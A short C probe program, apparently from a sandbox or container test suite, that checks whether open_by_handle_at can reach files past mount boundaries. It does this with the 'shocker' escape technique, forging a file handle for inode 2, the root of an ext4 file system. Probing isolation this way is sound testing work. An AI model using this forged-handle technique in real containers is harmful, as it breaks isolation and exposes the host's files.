/* open_by_handle_at(2) opens a file by its inode, past any mount or
 * mask (the "shocker" escape): the handle of /usr, and a forged one for
 * inode 2, the root directory of an ext4 file system. */
#include "probe.h"

int main(void) {
        struct {
                struct file_handle h;
                unsigned char bytes[MAX_HANDLE_SZ];
        } fh = { .h.handle_bytes = MAX_HANDLE_SZ };
        int mount_id, mfd;

        step("name-to-handle", name_to_handle_at(AT_FDCWD, "/usr", &fh.h, &mount_id, 0));
        mfd = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        step("open-by-handle", open_by_handle_at(mfd, &fh.h, O_RDONLY));
        /* FILEID_INO32_GEN: 32-bit inode number, 32-bit generation */
        fh.h.handle_type = 1;
        fh.h.handle_bytes = 8;
        memset(fh.bytes, 0, 8);
        fh.bytes[0] = 2;
        step("open-forged-handle", open_by_handle_at(mfd, &fh.h, O_RDONLY));
        return 0;
}
